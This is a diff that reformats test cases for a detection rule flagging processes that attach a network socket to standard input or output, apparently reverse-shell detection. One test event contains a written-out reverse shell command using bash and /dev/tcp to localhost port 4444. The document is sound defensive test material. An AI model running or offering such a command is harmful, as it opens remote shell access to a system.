@@ -378,7 +378,8 @@ rule {
     { event = { type = "network.stdio_socket", comm = "bash", exe = "/usr/bin/bash", pid = 70,
                 ppid = 69, parent = { comm = "bash" }, newfd = 1, fd = 3, family = 2,
                 protocol = 6, saddr = "127.0.0.1", sport = 50000, daddr = "127.0.0.1",
-                dport = 4444, syscall = "dup2", argv = { "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" } },
+                dport = 4444, syscall = "dup2",
+                argv = { "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1" } },
       expect = true,
       output = "bash (pid 70, exe /usr/bin/bash, uid 0, parent bash[69]) put its connection "
             .. "127.0.0.1:50000 -> 127.0.0.1:4444 on fd 1 (dup2); container host, pod -/-; "
@@ -396,7 +397,8 @@ rule {
     { event = { type = "network.stdio_socket", comm = "sshd", newfd = 0, family = 2,
                 saddr = "0.0.0.0", sport = 22, dport = 0 }, expect = false },
     { event = { type = "network.stdio_socket", comm = "(echo)", newfd = 0, family = 2,
-                daddr = "10.0.0.1", dport = 40000, parent = { comm = "systemd" } }, expect = false },
+                daddr = "10.0.0.1", dport = 40000, parent = { comm = "systemd" } },
+      expect = false },
     { event = { type = "network.stdio_socket", comm = "xinetd", newfd = 1, family = 2,
                 daddr = "10.0.0.1", dport = 40000 }, expect = false },
   },
